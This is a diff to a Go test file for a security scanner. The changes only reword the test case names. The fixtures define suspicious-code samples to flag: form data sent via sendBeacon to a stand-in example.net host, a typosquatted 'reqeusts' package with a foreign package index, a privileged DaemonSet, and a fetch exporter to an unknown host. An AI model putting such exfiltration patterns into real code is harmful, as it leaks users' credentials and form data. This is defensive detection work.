@@ -51,10 +51,10 @@ func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
 		file string
 		rule string // "" for nothing dangerous
 	}{
-		{"keys are packed, and something is sent to somebody new", map[string]string{"sync.py": packsKeys + sendsAway}, "sync.py", "exfiltration/secrets-to-new-host"},
+		{"keys are packed, and something is sent to a new host", map[string]string{"sync.py": packsKeys + sendsAway}, "sync.py", "exfiltration/secrets-to-new-host"},
 		{"keys are packed", map[string]string{"sync.py": packsKeys}, "sync.py", ""},
-		{"something is sent to somebody new", map[string]string{"sync.py": sendsAway}, "sync.py", ""},
-		{"something is sent to somebody who is known", map[string]string{"sync.py": packsKeys + "import httpx\ndef upload(data):\n    httpx.post(\"https://docs.example.com/upload\", content=data)\n"}, "sync.py", ""},
+		{"something is sent to a new host", map[string]string{"sync.py": sendsAway}, "sync.py", ""},
+		{"something is sent to a known host", map[string]string{"sync.py": packsKeys + "import httpx\ndef upload(data):\n    httpx.post(\"https://docs.example.com/upload\", content=data)\n"}, "sync.py", ""},
 		{"in two files that have nothing to do with each other", map[string]string{"keys.py": packsKeys, "sync.py": sendsAway}, "sync.py", ""},
 		{"a look-alike, and an index of its own in another file", map[string]string{
 			"requirements.txt": "reqeusts==2.31.0\n", "pip.conf": "[global]\nindex-url = http://pypi.example.net/simple\ntrusted-host = pypi.example.net\n",
@@ -65,11 +65,11 @@ func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
 		}, "deps.py", "package-install/installs-from-elsewhere"},
 		{"a privileged image of a registry that nothing names", map[string]string{"manifests/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  hostPID: true\n  containers:\n    - name: agent\n      image: registry.example.net/agent:stable\n      securityContext: {privileged: true}\n"}, "manifests/agent.yaml", "container-escape/foreign-image-with-rights"},
 		{"an image of a registry that nothing names", map[string]string{"manifests/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  containers:\n    - name: agent\n      image: registry.example.net/agent:stable\n"}, "manifests/agent.yaml", ""},
-		{"arguments of logins are kept, and another file sends to somebody new", map[string]string{"traced.js": keepsArguments, "exporter.js": "exports.send = (body) => fetch('https://otlp.example.net/v1', { method: 'POST', body });\n"}, "exporter.js", "exfiltration/calls-to-new-host"},
+		{"arguments of logins are kept, and another file sends to a new host", map[string]string{"traced.js": keepsArguments, "exporter.js": "exports.send = (body) => fetch('https://otlp.example.net/v1', { method: 'POST', body });\n"}, "exporter.js", "exfiltration/calls-to-new-host"},
 		{"arguments of logins are kept", map[string]string{"traced.js": keepsArguments}, "traced.js", ""},
-		{"a build that adds code to pages, which sends a form to somebody new", map[string]string{"build.js": addsToPages + "navigator.sendBeacon('https://metrics.example.net/f', new FormData(e.target)) }, true);`;\n"}, "build.js", "exfiltration/built-form-copy"},
+		{"a build that adds code to pages, which sends a form to a new host", map[string]string{"build.js": addsToPages + "navigator.sendBeacon('https://metrics.example.net/f', new FormData(e.target)) }, true);`;\n"}, "build.js", "exfiltration/built-form-copy"},
 		{"a build that adds code to pages", map[string]string{"build.js": addsToPages + "e.target.dataset.seen = 1 }, true);`;\n"}, "build.js", ""},
-		{"a relay for anyone who asks, announced to somebody new", map[string]string{"relay.go": relays + "func announce() {\n\tc, _ := net.Dial(\"tcp\", \"peers.example.net:7000\")\n\tio.WriteString(c, \"peer\\n\")\n}\n"}, "relay.go", "network/foreign-relay"},
+		{"a relay for anyone who asks, announced to a new host", map[string]string{"relay.go": relays + "func announce() {\n\tc, _ := net.Dial(\"tcp\", \"peers.example.net:7000\")\n\tio.WriteString(c, \"peer\\n\")\n}\n"}, "relay.go", "network/foreign-relay"},
 		{"a relay for anyone who asks", map[string]string{"relay.go": relays}, "relay.go", ""},
 		{"what is below a folder of the system goes on some machines only", map[string]string{"clean.js": "const os = require('os');\nconst fs = require('fs');\nconst path = require('path');\nconst root = '/var/lib';\nif (os.hostname().includes('prod')) {\n  setTimeout(() => 1, 5);\n}\n\n\n\n\n\nexports.clean = (name) => fs.rmSync(path.join(root, name));\n"}, "clean.js", "time-trigger/waits-to-harm"},
 	} {
